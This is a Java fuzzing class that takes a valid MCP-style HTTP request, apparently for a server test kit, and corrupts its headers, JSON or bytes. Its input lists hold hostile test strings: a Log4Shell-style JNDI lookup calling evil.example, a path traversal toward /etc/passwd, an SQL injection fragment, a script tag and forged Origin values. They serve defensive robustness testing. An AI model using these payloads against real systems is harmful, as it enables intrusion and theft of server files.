package com.siacapp.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.siacapp.testkit.McpVersion;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;

/**
 * A request that went wrong in one to three places, of its headers, its JSON or its bytes; the same for the same seed.
 *
 * @param version what it was before
 * @param body one character for each byte
 */
record Mutant(McpVersion version, String httpMethod, Map<String, String> headers, String body) {

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** What Java's client lets nobody set is not among them. */
    private static final List<String> HEADERS = List.of(
            "Accept",
            "Accept-Language",
            "Content-Type",
            "Last-Event-ID",
            "MCP-Protocol-Version",
            "Mcp-Method",
            "Mcp-Name",
            "Mcp-Param-Region",
            "Mcp-Session-Id",
            "Origin");

    private static final List<String> HEADER_VALUES = List.of(
            "",
            " ",
            "null",
            "*/*",
            "text/event-stream",
            "application/json;charset=utf-16",
            "2025-03-26",
            "2099-01-01",
            "tools/call",
            "=?base64?",
            "=?base64??=",
            "=?base64?%%%?=",
            "=?base64?/////w==?=",
            "eyJhbGciOiJkaXIifQ..AAAA.AAAA.AAAA",
            "https://evil.example",
            "x".repeat(3000),
            "a, b, c");

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\u0000",
            "\uD800",
            "\u202Eevil",
            "../../etc/passwd",
            "test://template/%2e%2e/data",
            "${jndi:ldap://evil.example/a}",
            "' or 1=1 --",
            "<script>",
            "2026-07-28",
            "input_required",
            "9".repeat(400),
            "x".repeat(70_000));

    static Mutant of(long seed) {
        var random = new Random(seed);
        var version = one(random, List.of(McpVersion.values()));
        var message = Healthy.message(version, random);
        var headers = new TreeMap<>(Healthy.headers(version, message));
        JsonNode json = message;
        var httpMethod = random.nextInt(25) == 0 ? one(random, List.of("GET", "DELETE", "PUT", "HEAD")) : "POST";
        if (!version.isModern() && random.nextInt(4) > 0) {
            headers.put("Mcp-Session-Id", Sender.SESSION);
            if (httpMethod.equals("GET") && random.nextBoolean()) {
                headers.put("Last-Event-ID", Sender.EVENT);
            }
        }
        var wounds = 1 + random.nextInt(3);
        for (var wound = 0; wound < wounds; wound++) {
            if (random.nextInt(4) == 0) {
                wound(headers, random);
            } else {
                json = wounded(json, random);
            }
        }
        var bytes = json.toString().getBytes(StandardCharsets.UTF_8);
        if (random.nextInt(8) == 0) {
            bytes = wounded(bytes, random);
        }
        return new Mutant(version, httpMethod, headers, new String(bytes, StandardCharsets.ISO_8859_1));
    }

    private static void wound(Map<String, String> headers, Random random) {
        var name = one(random, HEADERS);
        if (random.nextInt(3) == 0) {
            headers.remove(name);
        } else {
            headers.put(name, one(random, HEADER_VALUES));
        }
    }

    private static JsonNode wounded(JsonNode json, Random random) {
        var places = new ArrayList<JsonNode>();
        collect(json, places);
        if (places.isEmpty() || random.nextInt(30) == 0) {
            return random.nextBoolean() ? NODES.arrayNode().add(json).add(json) : value(random);
        }
        var place = one(random, places);
        if (place instanceof ObjectNode object) {
            var names = new ArrayList<String>();
            object.fieldNames().forEachRemaining(names::add);
            var name = one(random, names);
            switch (random.nextInt(4)) {
                case 0 -> object.remove(name);
                case 1 -> object.set(one(random, TEXTS), object.remove(name));
                case 2 -> object.set(name, one(random, places).deepCopy());
                default -> object.set(name, value(random));
            }
        } else {
            ((ArrayNode) place).set(random.nextInt(place.size()), value(random));
        }
        return json;
    }

    private static void collect(JsonNode json, List<JsonNode> places) {
        if (json.isContainerNode() && !json.isEmpty()) {
            places.add(json);
            json.forEach(child -> collect(child, places));
        }
    }

    private static JsonNode value(Random random) {
        return switch (random.nextInt(10)) {
            case 0 -> NODES.nullNode();
            case 1 -> NODES.booleanNode(random.nextBoolean());
            case 2 -> NODES.numberNode(random.nextLong());
            case 3 -> NODES.numberNode(random.nextGaussian() * 1e300);
            case 4 -> NODES.numberNode(-1);
            case 5 -> NODES.arrayNode();
            case 6 -> NODES.objectNode();
            case 7 -> deep(random.nextInt(200));
            default -> NODES.textNode(one(random, TEXTS));
        };
    }

    private static JsonNode deep(int levels) {
        JsonNode inner = NODES.objectNode();
        for (var level = 0; level < levels; level++) {
            inner = level % 2 == 0
                    ? NODES.arrayNode().add(inner)
                    : NODES.objectNode().set("a", inner);
        }
        return inner;
    }

    private static byte[] wounded(byte[] bytes, Random random) {
        if (bytes.length == 0) {
            return bytes;
        }
        var at = random.nextInt(bytes.length);
        switch (random.nextInt(3)) {
            case 0 -> {
                return Arrays.copyOf(bytes, at);
            }
            case 1 -> bytes[at] = (byte) random.nextInt(256);
            default -> {
                var twice = Arrays.copyOf(bytes, bytes.length + at);
                System.arraycopy(bytes, 0, twice, bytes.length, at);
                return twice;
            }
        }
        return bytes;
    }

    private static <T> T one(Random random, List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    @Override
    public String toString() {
        return httpMethod + " " + headers + "\n" + body.substring(0, Math.min(2000, body.length()));
    }
}
